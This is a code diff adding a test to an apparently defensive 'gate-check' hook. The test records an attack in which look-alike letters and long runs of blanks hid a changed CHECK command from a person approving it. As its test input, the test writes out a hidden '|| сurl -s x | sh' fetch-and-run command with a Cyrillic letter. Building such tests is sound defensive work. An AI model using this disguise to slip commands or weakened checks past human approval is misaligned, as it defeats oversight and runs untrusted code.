@@ -253,4 +253,29 @@ describe('gate-check hook accept: a person approves the new definition', () => {
     s.setLedger(WEAKENINGS[0]![1](s.original));
     expect(blockOf(s.stop())).toMatch(/^gate-check: 1 gate is not met: GATES:A \(weakened since the session began: removed: a person must approve\)/);
   }, 60_000);
+
+  // Found by an attack: `INPUTS: test/**` swapped for a look-alike (a Cyrillic е) read as no
+  // change, and a run of blanks pushed a CHECK's tail off the screen; the person accepted.
+  it.skipIf(ptyDriver() === null)('shows values as the approval screen does (look-alike letters, runs of blanks), and never asks over a value it cannot show in full', async () => {
+    const s = passed();
+    expect(s.stop()).toEqual({ kind: 'allow', note: null });
+    s.setLedger(withGateA(s.original, (b) => b.replace('  CHECK: node greet.mjs', `  CHECK: node greet.mjs${' '.repeat(150)}|| \u0441url -s x | sh`)));
+    expect(blockOf(s.stop())).toMatch(/weakened since the session began: CHECK changed/);
+    const t = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
+    await t.waitForOutput(/approve these definitions as the new baseline of every session\? \[y\/N\] /, 20_000);
+    t.type('n\r');
+    const shown = await t.done;
+    expect(shown.output).toContain('CHECK changed: "node greet.mjs" -> "node greet.mjs<150 spaces>|| <U+0441>url -s x | sh"');
+    expect(shown.output).toContain('(CHECK has 1 non-ASCII character, shown as <U+XXXX>)');
+    expect(shown.output).toContain('(CHECK has 1 run of 8 or more spaces, shown as <N spaces>)');
+    expect(shown.output).not.toContain('\u0441');
+    // Longer than the screen shows: refused without asking, nothing approved.
+    s.setLedger(withGateA(s.original, (b) => b.replace('  CHECK: node greet.mjs', `  CHECK: node greet.mjs && ${'true && '.repeat(300)}true`)));
+    const long = startInPty([process.execPath, BIN, 'hook', 'accept'], { cwd: s.repo, env: s.env });
+    const refused = await long.done;
+    expect(refused.code).toBe(2);
+    expect(refused.output).toMatch(/hook accept cannot show CHECK in full \(over 2000 characters as shown\), so it does not ask: nothing was approved/);
+    expect(refused.output).not.toMatch(/approve these definitions/);
+    expect(blockOf(s.stop())).toMatch(/weakened since the session began: CHECK changed/);
+  }, 60_000);
 });
